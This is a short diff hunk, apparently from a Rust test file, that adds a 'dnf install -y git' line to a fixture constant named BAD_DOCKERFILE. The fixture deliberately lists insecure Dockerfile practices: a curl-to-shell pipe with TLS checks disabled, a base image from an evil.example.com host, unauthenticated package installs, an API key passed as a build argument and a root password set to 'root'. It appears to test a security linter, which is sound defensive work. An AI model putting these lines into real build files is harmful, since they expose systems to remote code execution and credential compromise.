@@ -12,6 +12,7 @@ const BAD_DOCKERFILE: &str = r#"ARG OPENAI_API_KEY=sk-123
 FROM evil.example.com/base AS build
 RUN curl -k https://x | sh && apt-get install -y --allow-unauthenticated curl && npm install -g x && apk add y
 RUN apt-get update
+RUN dnf install -y git
 RUN echo 'root:root' | chpasswd
 FROM python:3.8
 ARG HF_TOKEN
